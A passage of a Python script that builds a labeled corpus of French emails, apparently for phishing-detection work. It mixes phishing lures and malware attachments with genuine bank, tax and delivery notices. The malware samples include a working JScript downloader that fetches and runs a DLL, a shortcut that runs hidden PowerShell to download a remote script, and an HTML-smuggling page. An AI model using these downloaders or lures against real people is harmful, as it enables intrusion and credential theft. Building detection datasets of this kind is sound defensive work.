_u = f"https://drive.google.com/file/d/1{tok('gd', 32)}/view?usp=sharing_eil_m&ts={int(h('gdts', 8), 16)}"
_p, _h = kit("gd", "Google Drive", "#1a73e8", "Marc Le Guen a partagé un élément", [
    "Marc Le Guen (marc.leguen.photo@gmail.com) vous a invité à consulter le fichier suivant :",
    "<b>Facture_photos_de_classe_2025.pdf</b>",
    "« Bonjour, voici la facture des photos de classe, le lien de paiement est dans le document. Bonne journée »",
], "Ouvrir", _u, "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>Vous avez reçu cet e-mail, car marc.leguen.photo@gmail.com a partagé un fichier avec vous depuis Google Drive.")
add(dict(ip="209.85.220.69", helo="mail-sor-f69.google.com", mailfrom=f"3{tok('gdr', 20)}@doclist.bounces.google.com",
         dkim_d="google.com", sel="20230601", policy="reject", mid=f"<{tok('gdm', 22)}-{h('gdm2', 10)}@google.com>",
         xh=["X-Google-Doclist: share"]),
    slug="google-drive-partage-facture", cat="phishing", kind="phish",
    desc="Genuine Google Drive share notification (google.com, all checks pass) from an attacker's Gmail posing as the school photographer; the shared PDF holds a payment link to a card-phishing page.",
    date="2025-06-17 13:19:02 +0200", to=DIRECTION, frm=("Marc Le Guen (via Google Drive)", "drive-shares-dm-noreply@google.com"),
    reply_to=("Marc Le Guen", "marc.leguen.photo@gmail.com"),
    subject="Facture_photos_de_classe_2025.pdf – Invitation à consulter", body=alt(_p, _h, f"000000000000{h('gdb', 16)}"))

# --- 44. Zimbra quota from a compromised OVH mailbox, Jimdo form
_u = f"https://webmail-zimbra-quota.jimdosite.com/?email={KERVELLA[1]}"
_p, _h = kit("zq", "Zimbra", "#1c5b9c", "Votre boîte aux lettres a atteint 98 % de sa capacité", [
    "Cher utilisateur " + KERVELLA[1] + ",",
    "Votre boîte aux lettres a dépassé la limite de stockage (4,9 Go / 5 Go). Les nouveaux messages sont <b>retenus sur le serveur</b>.",
    "Pour augmenter gratuitement votre quota et libérer les 14 messages en attente, veuillez valider votre compte.",
], "Valider mon compte", _u, "Administrateur du service de messagerie Zimbra")
add(ovh_src("zq", "cave-vignerons-tain.fr"),
    slug="zimbra-quota-jimdo", cat="phishing", kind="phish",
    desc="Webmail quota warning sent from a compromised OVH-hosted winery mailbox (auth passes for that domain) to the garage's Zimbra user; the link is a Jimdo site form harvesting the mailbox password.",
    date="2024-05-06 11:03:27 +0200", to=KERVELLA, frm=("Administrateur Zimbra", "contact@cave-vignerons-tain.fr"),
    subject="Alerte quota : messages en attente de livraison", body=alt(_p, _h, "=_zq_" + h("zqb", 16)))

# --- 45. Calendar invitation (ICS) with a Sway link, community-of-communes look-alike
_u = f"https://sway.cloud.microsoft/{tok('sway', 16)}?ref=Link"
_ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\n"
        "BEGIN:VEVENT\r\nORGANIZER;CN=Secrétariat CC Pays de Kerhir:mailto:secretariat@cc-paysdekerhir.com\r\n"
        f"ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{ADJ[1]}\r\n"
        "DESCRIPTION:Bonjour\\,\\nLe dossier de séance du conseil communautaire est disponible :\\n"
        f"{_u}\\nMerci de le consulter avant la réunion.\r\n"
        "DTSTART;TZID=Romance Standard Time:20251120T183000\r\nDTEND;TZID=Romance Standard Time:20251120T210000\r\n"
        "DTSTAMP:20251112T084500Z\r\nLOCATION:Salle du conseil - Siège communautaire\r\n"
        "SUMMARY:Conseil communautaire - dossier de séance\r\n"
        f"UID:040000008200E00074C5B7101A82E008000000{h('ics', 32).upper()}\r\nSEQUENCE:0\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
_p, _h = outlook(["Bonjour,", "", "Le dossier de séance du conseil communautaire du 20 novembre est disponible en ligne :", _u, "",
                  "Merci de le consulter avant la réunion."], "Secrétariat général\nCommunauté de communes du Pays de Kerhir")
add(m365_src("ics", "cc-paysdekerhir.com"),
    slug="invitation-conseil-communautaire-sway", cat="phishing", kind="phish",
    desc="Meeting invitation (text/calendar REQUEST) from cc-paysdekerhir.com, a .com look-alike of the community of communes on a fresh Microsoft 365 tenant; the 'dossier de séance' is a Sway page linking to a credential phish.",
    date="2025-11-12 09:45:10 +0100", to=ADJ, frm=("Secrétariat CC Pays de Kerhir", "secretariat@cc-paysdekerhir.com"),
    subject="Conseil communautaire - dossier de séance",
    body=Multi("alternative", "_000_PAXP190MB1ICS_", [text(_p), text(_h, "html"),
               Leaf("text/calendar", _ics.encode(), "base64", '; charset="utf-8"; method=REQUEST')]))

# --- 46. Fake Chorus Pro notification
_u = f"https://portail.chorus-pro-gouv.fr/aife_csm/?facture={h('chp', 10, '0123456789')}&siret=21290{h('chp2', 9, '0123456789')}"
_p, _h = kit("chp", "Chorus Pro", "#000091", "Une facture est en attente de traitement", [
    "Bonjour,",
    "Une facture a été déposée à destination de votre structure <b>COMMUNE DE PLEUMEUR-KERHIR</b> :",
    "Fournisseur : SARL ARMOR ENTRETIEN<br>Numéro : FA-25-3391<br>Montant TTC : 4 212,00 €<br>Statut : <b>À valider avant mise en paiement</b>",
    "Connectez-vous à votre espace pour consulter et traiter la facture. Sans action sous 10 jours, des intérêts moratoires pourront s'appliquer.",
], "Accéder à Chorus Pro", _u, "Agence pour l'informatique financière de l'État (AIFE)<br>Ce message est généré automatiquement.")
add(vps("chp", "chorus-pro-gouv.fr", "194.26.29.113", mailer=None),
    slug="chorus-pro-facture-lookalike", cat="phishing", kind="phish",
    desc="Fake Chorus Pro 'invoice awaiting validation' notice from chorus-pro-gouv.fr (the real service is chorus-pro.gouv.fr), sending the DGS to a clone of the AIFE portal login.",
    date="2025-09-16 10:31:48 +0200", to=DGS, frm=("Chorus Pro", "ne-pas-repondre@chorus-pro-gouv.fr"),
    subject="[Chorus Pro] Nouvelle facture en attente - FA-25-3391", body=alt(_p, _h, "b1_chp_92d0e4f8"))

# ============================================================================ MALWARE

# --- 47. Reply-chain hijack from a compromised supplier with a ZIP holding a JScript downloader
_js = ("var _s=['WScript.Shell','MSXML2.ServerXMLHTTP.6.0','ADODB.Stream','%TEMP%\\\\fa25.dll'];\r\n"
       "function _d(u){var x=new ActiveXObject(_s[1]);x.open('GET',u,false);x.send();return x.responseBody;}\r\n"
       "var sh=new ActiveXObject(_s[0]);var p=sh.ExpandEnvironmentStrings(_s[3]);\r\n"
       "var st=new ActiveXObject(_s[2]);st.Type=1;st.Open();st.Write(_d('https://cdn-storage-fa.com/upd/'+'fa25.dat'));\r\n"
       "st.SaveToFile(p,2);st.Close();sh.Run('rundll32.exe '+p+',DllRegisterServer',0,false);\r\n")
_zip = files.zip_archive([("Facture_FA25-0931.js", _js.encode())])
_q = ("De : Compta Le Floch <compta@menuiserie-lefloch.bzh>\nEnvoyé : jeudi 11 septembre 2025 09:02\n"
      "À : Christelle Quillévéré <c.quillevere@quincaillerie-abers.fr>\nObjet : Facture FA25-0931\n\n"
      "Bonjour Christelle,\nIl y a une erreur de quantité sur la ligne des paumelles (20 au lieu de 12). Pouvez-vous nous renvoyer une facture corrigée ?\n"
      "Merci,\nCompta Le Floch")
_p, _h = outlook(["Bonjour,", "", "Voici la facture corrigée comme demandé.",
                  "Le mot de passe de l'archive est 2025 si besoin.", "", "Bonne journée,"],
                 "Christelle Quillévéré\nQuincaillerie des Abers - Lannilis", quote=_q)
add(ovh_src("zipjs", "quincaillerie-abers.fr"),
    slug="facture-corrigee-zip-js-thread", cat="malware", kind="phish",
    desc="Reply-chain hijack from a compromised hardware supplier's OVH mailbox (auth passes) answering the menuiserie's request for a corrected invoice with a ZIP holding a JScript downloader that fetches and runs a DLL.",
    date="2025-09-12 14:06:38 +0200", to=MCOMPTA, frm=("Christelle Quillévéré", "c.quillevere@quincaillerie-abers.fr"),
    subject="RE: Facture FA25-0931",
    xh=[f"In-Reply-To: <CA{tok('zipq', 40)}@mail.gmail.com>", f"References: <CA{tok('zipq', 40)}@mail.gmail.com>"],
    body=mixed(alt(_p, _h, "----=_alt_zipjs"), [attachment("application/zip", "Facture_FA25-0931.zip", _zip)], "----=_mix_zipjs"))

# --- 48. ISO with a shortcut disguised as a PDF
_lnk = files.lnk_shortcut("C:\\Windows\\System32\\cmd.exe",
                          "/c start /min powershell -w hidden -ep bypass -c \"iex(iwr 'hxxps://185.156.72.9/cmd.ps1' -useb)\" & start Commande_AD_458812.pdf")
_iso = files.iso_image([("Commande_AD_458812.pdf.lnk", _lnk), ("Commande_AD_458812.pdf", files.pdf(["Commande AD 458812"], title="Commande"))], "COMMANDE")
_p = ("Bonjour,\n\nSuite à votre demande, veuillez trouver ci-joint le bon de commande des pièces (plaquettes, disques, "
      "filtres) ainsi que le bon de livraison.\nMerci de vérifier les références avant validation.\n\n"
      "Cordialement,\nService commandes\nAutodistribution Bretagne\n")
add(vps("iso", "autodistrib-bretagne.com", "185.156.72.9", mailer="Microsoft Outlook 16.0"),
    slug="commande-pieces-iso-lnk", cat="malware", kind="phish",
    desc="Parts-order message to the garage from autodistrib-bretagne.com, a look-alike of a parts distributor; the attached ISO image holds a .pdf.lnk shortcut running hidden PowerShell to download a payload, next to a decoy PDF.",
    date="2024-08-27 10:44:05 +0200", to=GACCUEIL, frm=("Autodistribution Bretagne", "commandes@autodistrib-bretagne.com"),
    subject="Bon de commande AD-458812",
    body=mixed(text(_p), [attachment("application/x-iso9660-image", "Commande_AD_458812.iso", _iso)], "=_iso_9b2e11c4"))

# --- 49. XLL add-in, English purchase order
_p, _h = outlook(["Dear Sir/Madam,", "",
                  "Please find attached our purchase order PO-2025-0712 for the network equipment discussed with your sales team.",
                  "Kindly confirm availability, prices and delivery time to our warehouse in Gdynia.", "",
                  "Open the attached file in Excel to view the item list (enable the add-in if prompted).", "", "Best regards,"],
                 "Katarzyna Nowak\nProcurement Department\nBaltic Marine Systems Sp. z o.o.")
add(m365_src("xll", "balticmarine-systems.com"),
    slug="purchase-order-xll-english", cat="malware", kind="phish",
    desc="English purchase order to the IT provider from a fresh Microsoft 365 tenant of a fake Polish company; the attachment is an Excel XLL add-in (a native DLL) that runs code when opened.",
    date="2025-07-01 11:12:51 +0200", to=TECH, frm=("Katarzyna Nowak", "k.nowak@balticmarine-systems.com"),
    subject="PO-2025-0712 / request for quotation",
    body=mixed(alt(_p, _h, "_000_PAXP190MB1XLL_"), [attachment("application/vnd.ms-excel", "PO-2025-0712_items.xll", files.pe_stub())], "_004_PAXP190MB1XLL_"))

# --- 50. HTML smuggling of a ZIP with a JScript, sent to the urbanisme service
_inner = files.zip_archive([("PC_029_2025_00047_pieces_complementaires.js", _js.replace("fa25", "pc47").encode())])
_sm = (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Pièces complémentaires PC 029 2025 00047</title></head>'
       '<body style="font-family:Arial"><p>Téléchargement du dossier en cours...</p><script>\n'
       f'var d="{base64.b64encode(_inner).decode()}";\n'
       'var b=atob(d),a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){a[i]=b.charCodeAt(i);}\n'
       'var f=new Blob([a],{type:"application/zip"}),l=document.createElement("a");\n'
       'l.href=URL.createObjectURL(f);l.download="PC_029_2025_00047.zip";document.body.appendChild(l);l.click();\n'
       '</script></body></html>\n')
_p, _h = gmail(["Bonjour,", "",
                "Suite au courrier de demande de pièces complémentaires pour mon permis de construire PC 029 2025 00047, "
                "je vous transmets le dossier complet (plans de coupe, notice PCMI4, insertion paysagère).", "",
                "Le fichier étant trop lourd je l'ai mis sous forme de page à ouvrir dans le navigateur.", "",
                "Bien cordialement,", "Thomas Bellec"])
add(gmail_src("smug", "thomas.bellec.29@gmail.com"),
    slug="permis-construire-html-smuggling", cat="malware", kind="phish",
    desc="Citizen-style Gmail message about missing building-permit documents to the urbanisme service; the HTML attachment rebuilds a ZIP holding a JScript downloader from base64 and forces its download (HTML smuggling).",
    date="2025-10-21 17:37:12 +0200", to=URBA, frm=("Thomas Bellec", "thomas.bellec.29@gmail.com"),
    subject="PC 029 2025 00047 - pièces complémentaires",
    body=mixed(alt(_p, _h, f"000000000000{h('smb', 16)}"), [attachment("text/html", "PC_029_2025_00047_pieces.html", _sm.encode())], f"000000000000{h('smm', 16)}"))


# ============================================================================ LEGITIMATE


def brand(seed, ip, helo, mailfrom, d, sel="s1", mid_dom=None, xh=None, sigs=None, policy="reject", hops=None):
    """A brand's own sending platform: SPF, DKIM and DMARC aligned on its real domain."""
    out = dict(ip=ip, helo=helo, mailfrom=mailfrom, dkim_d=d, sel=sel, policy=policy,
               mid=f"<{h(seed + 'mid', 24)}.{h(seed + 'mid2', 8, '0123456789')}@{mid_dom or d}>", xh=xh or [])
    if sigs:
        out["sigs"] = sigs
    if hops:
        out["hops"] = hops
    return out


# --- L1. Ameli: new document in the account
_p, _h = kit("l-ameli", "ameli", "#0c419a", "Un nouveau document est disponible", [
    "Bonjour Madame TANGUY,",
    "Votre <b>attestation de paiement des indemnités journalières</b> est disponible dans votre compte ameli, rubrique "
    "« Mes paiements ».",
    "Pour la consulter, connectez-vous à votre compte ameli depuis le site ameli.fr ou l'application ameli.",
    "Pour votre sécurité, l'Assurance Maladie ne vous demandera jamais vos coordonnées bancaires ni vos codes par e-mail.",
], "Accéder à mon compte", "https://assure.ameli.fr/PortailAS/appmanager/PortailAS/assure?_somtc=true",
    "L'Assurance Maladie – Caisse primaire d'assurance maladie du Finistère<br>Ce courriel est envoyé automatiquement, merci de ne pas y répondre.")
add(brand("l-ameli", "160.92.124.18", "smtp-out2.ameli.fr", "ne-pas-repondre@ameli.fr", "ameli.fr", sel="ameli2023"),
    slug="ameli-nouveau-document", cat="bulk", kind="bulk",
    desc="Genuine Ameli notice from ameli.fr (SPF/DKIM/DMARC aligned) that a payment certificate is in the account, pointing only to assure.ameli.fr and warning never to give bank details by mail.",
    date="2025-05-07 06:12:33 +0200", to=TRESOR, frm=("Assurance Maladie", "ne-pas-repondre@ameli.fr"),
    subject="Un nouveau document est disponible dans votre compte ameli", body=alt(_p, _h, "=_ameli_" + h("l-ameli-b", 12)))

# --- L2. impots.gouv: tax notice available
_p, _h = kit("l-imp", "impots.gouv.fr", "#000091", "Votre avis d'impôt 2025 est disponible", [
    "Madame, Monsieur,",
    "Votre avis d'impôt sur les revenus de 2024 est disponible dans votre espace particulier sur impots.gouv.fr, rubrique "
    "« Documents ».",
    "Si vous bénéficiez d'un remboursement, il sera versé sur le compte bancaire que vous avez indiqué dans votre espace, "
    "sans aucune démarche de votre part.",
], "Accéder à mon espace particulier", "https://cfspart.impots.gouv.fr/LoginAccess",
    "Direction générale des Finances publiques<br>Ce message vous est envoyé automatiquement, merci de ne pas y répondre.")
add(brand("l-imp", "145.242.11.37", "smtpout3.dgfip.finances.gouv.fr", "ne-pas-repondre@dgfip.finances.gouv.fr", "dgfip.finances.gouv.fr", sel="dgfip1"),
    slug="impots-avis-disponible", cat="bulk", kind="bulk",
    desc="Genuine DGFiP notice that the 2025 tax assessment is online, from dgfip.finances.gouv.fr with aligned SPF/DKIM and DMARC pass, linking to cfspart.impots.gouv.fr only.",
    date="2025-07-24 08:02:11 +0200", to=ELU, frm=("impots.gouv.fr", "ne-pas-repondre@dgfip.finances.gouv.fr"),
    subject="Votre avis d'impôt 2025 est disponible", body=alt(_p, _h, "=_dgfip_" + h("l-imp-b", 12)))

# --- L3. Colissimo shipping notice from notif-colissimo-laposte.info (the real notification domain)
_num = "6A" + h("l-col", 11, "0123456789")
_ct = lambda k: f"https://click.notif-colissimo-laposte.info/?qs={h('l-col' + k, 64)}"
_p, _h = kit("l-col", "colissimo", "#003865", "Votre colis arrive !", [
    "Bonjour,",
    f"<b>OSCARO</b> vous a expédié un colis n° <b>{_num}</b>.",
    "Livraison prévue : <b>mardi 14 octobre 2025</b>, à votre adresse professionnelle.",
    f'Vous pouvez suivre votre colis ou modifier sa livraison sur <a href="{_ct("s")}">laposte.fr</a>.',
], "Suivre mon colis", _ct("b"), "Colissimo – La Poste – SA au capital de 5 364 851 364 €<br>Cet e-mail vous a été envoyé par Colissimo pour le compte d'OSCARO.",
    pixel=f"https://click.notif-colissimo-laposte.info/open?qs={h('l-colp', 48)}")
add(brand("l-col", "185.126.145.21", "mta21.notif-colissimo-laposte.info", f"bounce-{h('l-colr', 10)}@notif-colissimo-laposte.info",
          "notif-colissimo-laposte.info", sel="colissimo", policy="quarantine"),
    slug="colissimo-expedition-oscaro", cat="bulk", kind="bulk",
    desc="Real Colissimo shipping notice sent from La Poste's genuine but odd-looking notif-colissimo-laposte.info domain (aligned auth), with click-tracking links, for parts ordered from Oscaro.",
    date="2025-10-13 17:41:02 +0200", to=GACCUEIL, frm=("Colissimo", "noreply@notif-colissimo-laposte.info"),
    subject=f"Votre colis {_num} arrive", body=alt(_p, _h, "=_col_" + h("l-col-b", 12)))

# --- L4. Chronopost Predict notice
_lt = "XW" + h("l-chr", 9, "0123456789") + "FR"
_p, _h = kit("l-chr", "Chronopost", "#003f7f", "Votre colis sera livré demain", [
    "Bonjour,",
    f"Votre colis n° <b>{_lt}</b> envoyé par <b>WURTH FRANCE</b> sera livré <b>demain, vendredi 7 mars, entre 9h45 et 10h45</b>.",
    f'Vous n\'êtes pas disponible ? <a href="https://www.chronopost.fr/fr/predict?numeroLt={_lt}&cle={h("l-chr2", 16)}">Modifiez votre livraison</a> '
    "(autre date, Point Relais, voisin).",
], "Suivre mon colis", f"https://www.chronopost.fr/tracking-no-cms/suivi-page?listeNumerosLT={_lt}&langue=fr",
    "Chronopost – 3 boulevard Romain Rolland – 75014 Paris<br>Nous ne vous demanderons jamais de paiement par e-mail ou SMS pour un colis déjà payé par l'expéditeur.")
add(brand("l-chr", "194.51.218.40", "smtp-predict2.chronopost.fr", "predict@chronopost.fr", "chronopost.fr", sel="chrono2022"),
    slug="chronopost-predict-livraison", cat="bulk", kind="bulk",
    desc="Genuine Chronopost Predict delivery-slot notice from chronopost.fr (aligned auth) with tracking and rescheduling links on www.chronopost.fr and no payment request.",
    date="2025-03-06 18:20:44 +0100", to=MCONTACT, frm=("Chronopost", "predict@chronopost.fr"),
    subject=f"Votre colis {_lt} sera livré demain", body=alt(_p, _h, "=_chr_" + h("l-chr-b", 12)))

# --- L5. Crédit Agricole: genuine new SécuriPass device alert
_p, _h = kit("l-ca", "Crédit Agricole", "#006a4e", "Nouvel appareil associé à SécuriPass", [
    "Bonjour Monsieur MORVAN,",
    "Un nouvel appareil (<b>iPhone</b>) a été associé à votre service SécuriPass le <b>09/01/2026 à 17h52</b>.",
    "Si vous êtes à l'origine de cette opération, vous n'avez rien à faire.",
    "Si vous n'êtes pas à l'origine de cette opération, contactez sans attendre votre agence ou le service SOS Carte au "
    "09 69 39 92 91. Le Crédit Agricole ne vous demandera jamais vos codes d'accès ou de valider une opération par téléphone.",
], None, "", "Crédit Agricole du Finistère – 7 route du Loch – 29555 Quimper Cedex 9<br>Ce message est envoyé automatiquement.")
add(brand("l-ca", "91.216.36.48", "mail-out4.credit-agricole.fr", "alertes@credit-agricole.fr", "credit-agricole.fr", sel="ca2024"),
    slug="credit-agricole-securipass-nouvel-appareil", cat="bulk", kind="bulk",
    desc="Genuine Crédit Agricole alert that a new phone was paired with SécuriPass, from credit-agricole.fr with aligned authentication, no link, and the bank's official opposition number.",
    date="2026-01-09 17:53:20 +0100", to=ELU, frm=("Crédit Agricole", "alertes@credit-agricole.fr"),
    subject="Alerte sécurité : nouvel appareil SécuriPass", body=alt(_p, _h, "=_ca_" + h("l-ca-b", 12)))

# --- L6. Crédit Mutuel de Bretagne e-relevé
_p, _h = kit("l-cmb", "Crédit Mutuel de Bretagne", "#d8232a", "Votre relevé de compte est disponible", [
    "Bonjour,",
    "Le relevé de compte de février 2025 de <b>US KERHIR FOOTBALL</b> est disponible dans votre espace de banque à distance, "
    "rubrique « e-Documents ».",
], "Consulter mes e-Documents", "https://www.cmb.fr/banque/assurance/credit-mutuel/particuliers/connexion.html",
    "Crédit Mutuel Arkéa – 1 rue Louis Lichou – 29480 Le Relecq-Kerhuon")
add(brand("l-cmb", "194.2.158.70", "mailout2.arkea.com", "noreply@cmb.fr", "cmb.fr", sel="arkea1", mid_dom="arkea.com"),
    slug="cmb-releve-disponible", cat="bulk", kind="bulk",
    desc="Genuine Crédit Mutuel de Bretagne e-statement notice for the football club from cmb.fr, sent by Arkéa's servers with aligned DKIM, linking to the bank's login page.",
    date="2025-03-04 05:30:08 +0100", to=FOOT, frm=("Crédit Mutuel de Bretagne", "noreply@cmb.fr"),
    subject="Votre relevé de compte est disponible", body=alt(_p, _h, "=_cmb_" + h("l-cmb-b", 12)))

# --- L7. Orange bill available
_ot = lambda k: f"https://r.orange.fr/r/O{k}?ref=fact_{h('l-or' + k, 12)}&utm_source=email&utm_medium=facture"
_p, _h = kit("l-or", "orange", "#ff7900", "Votre facture est disponible", [
    "Bonjour,",
    "Votre facture Orange de <b>septembre 2025</b> d'un montant de <b>44,99 €</b> est disponible.",
    "Elle sera prélevée le <b>06/10/2025</b> sur le compte se terminant par <b>•• 41</b>. Vous n'avez aucune démarche à effectuer.",
], "Voir ma facture", _ot("facture"), "Orange SA – 111 quai du Président Roosevelt – 92130 Issy-les-Moulineaux<br>"
    f'<a href="{_ot("aide")}" style="color:#888">Aide et contact</a>',
    pixel=f"https://r.orange.fr/o/{h('l-orp', 20)}.gif")
add(brand("l-or", "80.12.66.41", "smtp-out-fact.orange.fr", "facture@orange.fr", "orange.fr", sel="t20230301"),
    slug="orange-facture-disponible", cat="bulk", kind="bulk",
    desc="Genuine Orange monthly-bill notice from orange.fr to the comité's Orange address (aligned auth), with r.orange.fr tracking redirects and an automatic direct debit, no payment request.",
    date="2025-09-22 07:45:19 +0200", to=COMITE, frm=("Orange", "facture@orange.fr"),
    subject="Votre facture Orange est disponible", body=alt(_p, _h, "=_orf_" + h("l-or-b", 12)))

# --- L8. EDF bill
_et = lambda k: f"https://t.mail.edf.fr/r/?id=h{h('l-edf' + k, 10)},{h('l-edfz' + k, 6)},{h('l-edfy' + k, 6)}"
_p, _h = kit("l-edf", "EDF", "#001a70", "Votre facture d'électricité est disponible", [
    "Bonjour Madame Tanguy,",
    "Votre facture du <b>14/01/2025</b> d'un montant de <b>97,32 €</b> est disponible dans votre Espace Client.",
    "Vous êtes mensualisée : aucun paiement supplémentaire ne vous est demandé.",
], "Voir ma facture", _et("fact"), "EDF SA – 22-30 avenue de Wagram – 75008 Paris<br>"
    f'<a href="{_et("unsub")}" style="color:#888">Gérer mes préférences de communication</a>',
    pixel=f"https://t.mail.edf.fr/r/?id=o{h('l-edfp', 16)}")
add(brand("l-edf", "46.105.153.12", "mta12.mail.edf.fr", f"bounce-{h('l-edfr', 10)}@mail.edf.fr", "mail.edf.fr", sel="edf1",
          sigs=[("mail.edf.fr", "edf1")], xh=["List-Unsubscribe: <https://t.mail.edf.fr/u/?id=" + h("l-edfu", 20) + ">"]),
    slug="edf-facture-disponible", cat="bulk", kind="bulk",
    desc="Genuine EDF bill notice from mail.edf.fr (aligned with the From domain) with the supplier's click-tracking redirects; the customer is on monthly direct debit.",
    date="2025-01-15 09:10:55 +0100", to=TRESOR, frm=("EDF", "votre-facture@mail.edf.fr"),
    subject="Votre facture EDF est disponible", body=alt(_p, _h, "=_edf_" + h("l-edf-b", 12)))

# --- L9. Doctolib reminder
_p, _h = kit("l-doc", "Doctolib", "#107aca", "Rappel de votre rendez-vous", [
    "Bonjour Gwenaëlle,",
    "Nous vous rappelons votre rendez-vous <b>demain, jeudi 12 décembre 2024 à 10:30</b> avec <b>Dr Anne Le Roux</b> (médecin généraliste).",
    "Cabinet médical du Bourg – 4 place de l'Église – 29860 Kerhir",
    "En cas d'empêchement, pensez à annuler votre rendez-vous pour libérer le créneau.",
], "Gérer mon rendez-vous", f"https://www.doctolib.fr/appointments/{h('l-doc2', 9, '0123456789')}/edit?source=reminder_email",
    "Doctolib – 54 quai Charles Pasqua – 92300 Levallois-Perret")
add(brand("l-doc", "167.89.50.18", "o18.mail.doctolib.fr", f"bounces+{h('l-docr', 8, '0123456789')}@mail.doctolib.fr", "doctolib.fr", sel="s1"),
    slug="doctolib-rappel-rdv", cat="bulk", kind="bulk",
    desc="Genuine Doctolib appointment reminder (doctolib.fr, aligned DKIM) for the same doctor named in a phishing sample, linking only to www.doctolib.fr.",
    date="2024-12-11 10:30:02 +0100", to=GWEN, frm=("Doctolib", "no-reply@doctolib.fr"),
    subject="Rappel : votre rendez-vous demain avec Dr Anne Le Roux", body=alt(_p, _h, "=_doc_" + h("l-doc-b", 12)))

# --- L10. Yousign genuine signature request
_p, _h = kit("l-ys", "Yousign", "#6f42c1", "Vous êtes invité(e) à signer", [
    "Bonjour,",
    "<b>Solenn Kerjean (Kerjean Expertise Comptable)</b> vous invite à signer le document <b>« Lettre de mission 2025-2026 OGEC Saint-Yves »</b>.",
    "Message : « Bonjour, comme convenu lors de notre rendez-vous, voici la lettre de mission pour l'exercice 2025-2026. Bonne journée. »",
], "Signer le document", f"https://yousign.app/signatures/{h('l-ys1', 8)}-{h('l-ys2', 4)}-{h('l-ys3', 4)}-{h('l-ys4', 4)}-{h('l-ys5', 12)}?k={tok('l-ys6', 32)}",
    "Yousign SAS – 8 rue du Cirque – 75008 Paris – Signature électronique conforme eIDAS")
add(brand("l-ys", "149.72.243.76", "o7.ptr4021.yousign.com", f"bounces+{h('l-ysr', 8, '0123456789')}@em.yousign.com", "yousign.com", sel="s1",
          sigs=[("yousign.com", "s1"), ("sendgrid.info", "smtpapi")]),
    slug="yousign-lettre-mission", cat="bulk", kind="bulk",
    desc="Genuine Yousign signature request from yousign.com (sent through SendGrid, aligned DKIM) for the accountant's engagement letter, linking to yousign.app.",
    date="2025-09-09 14:03:21 +0200", to=OGEC, frm=("Yousign", "noreply@yousign.com"),
    reply_to=("Solenn Kerjean", "s.kerjean@kerjean-expertise.fr"),
    subject="Solenn Kerjean vous invite à signer « Lettre de mission 2025-2026 OGEC Saint-Yves »", body=alt(_p, _h, "=_ys_" + h("l-ys-b", 12)))

# --- L11. Qonto incoming transfer
_p, _h = kit("l-qt", "Qonto", "#1d1d1b", "Vous avez reçu un virement", [
    "Bonjour Gwenaëlle,",
    "Un virement de <b>3 480,00 €</b> a été crédité sur le compte <b>Menuiserie Le Floch – Compte principal</b>.",
    "Émetteur : COMMUNE DE PLEUMEUR-KERHIR<br>Référence : MANDAT 2025-0612 FACT F2025-077",
], "Voir la transaction", "https://app.qonto.com/organizations/menuiserie-le-floch/transactions",
    "Qonto – Olinda SAS, établissement de paiement agréé par l'ACPR – 18 rue de Navarin – 75009 Paris")
add(brand("l-qt", "54.240.3.21", "a3-21.smtp-out.eu-west-1.amazonses.com", f"{h('l-qtr', 16)}-{h('l-qtr2', 8)}@eu-west-1.amazonses.com",
          "qonto.com", sel="qonto1", sigs=[("qonto.com", "qonto1"), ("amazonses.com", "ihchhvubuqgjsxyuhssfvqohv7z3u4hn")],
          mid_dom="eu-west-1.amazonses.com", xh=[f"Feedback-ID: ::1.eu-west-1.{tok('l-qtf', 20)}=:AmazonSES"]),
    mailfrom=f"{h('l-qtr', 16)}@eu-west-1.amazonses.com", dmarc="pass",
    slug="qonto-virement-recu", cat="bulk", kind="bulk",
    desc="Genuine Qonto incoming-transfer notification sent through Amazon SES with DKIM aligned on qonto.com, reporting the mairie's payment of a menuiserie invoice.",
    date="2025-06-27 11:47:36 +0200", to=GWEN, frm=("Qonto", "no-reply@qonto.com"),
    subject="Virement reçu : 3 480,00 € de COMMUNE DE PLEUMEUR-KERHIR", body=alt(_p, _h, "=_qt_" + h("l-qt-b", 12)))

# --- L12. Office de tourisme newsletter via Sarbacane
_sb = lambda k: f"https://tk.sarbacane.com/r/{tok('l-sb' + k, 26)}/{h('l-sbx' + k, 12)}"
_p, _h = news("Office de Tourisme des Abers et de Kerhir", "#00857c",
              "Bonjour à toutes et à tous, voici l'agenda de l'été et les dernières nouvelles pour les associations partenaires.",
              [("Fête de la Saint-Jean : appel aux bénévoles", "Le comité des fêtes recherche des bras pour le montage du samedi 21 juin.",
                "S'inscrire", _sb("1")),
               ("Nouveau guide des hébergements 2025", "Téléchargez le guide et partagez-le avec vos adhérents.", "Télécharger le guide", _sb("2")),
               ("Agenda des fest-noz de juillet", "Toutes les dates du territoire, de Plouguerneau à Lannilis.", "Voir l'agenda", _sb("3"))],
              "Office de Tourisme des Abers et de Kerhir – 1 place de la Gare – 29860 Kerhir<br>Vous recevez cette lettre en tant que partenaire.",
              _sb("unsub"), f"https://tk.sarbacane.com/o/{tok('l-sbo', 24)}.gif")
add(brand("l-sb", "185.35.200.118", "mta118.sarbacane.com", f"bounce-{h('l-sbr', 12)}@bnc.sarbacane.com", "tourisme-kerhir.bzh", sel="sbc1",
          sigs=[("tourisme-kerhir.bzh", "sbc1"), ("sarbacane.com", "sbc")], policy="none",
          xh=[f"List-Unsubscribe: <{_sb('unsub')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Sarbacane"]),
    slug="office-tourisme-newsletter-sarbacane", cat="bulk", kind="bulk",
    desc="Tourist-office newsletter to partner associations sent through Sarbacane with DKIM aligned on tourisme-kerhir.bzh; every link is a Sarbacane tracking redirect.",
    date="2025-06-05 10:00:04 +0200", to=COMITE, frm=("Office de Tourisme des Abers et de Kerhir", "contact@tourisme-kerhir.bzh"),
    subject="La lettre des partenaires – juin 2025", body=alt(_p, _h, "=_sbc_" + h("l-sb-b", 12)))

# --- L13. Communauté de communes newsletter via Brevo
